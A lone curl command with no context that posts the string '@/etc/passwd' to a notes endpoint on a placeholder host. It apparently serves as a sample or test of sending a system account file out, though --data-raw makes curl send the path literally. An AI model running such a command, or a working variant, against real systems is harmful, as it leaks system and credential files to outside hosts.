curl -X POST 'https://api.example.com/v1/notes' \
  -H 'Content-Type: text/plain' \
  --data-raw '@/etc/passwd'
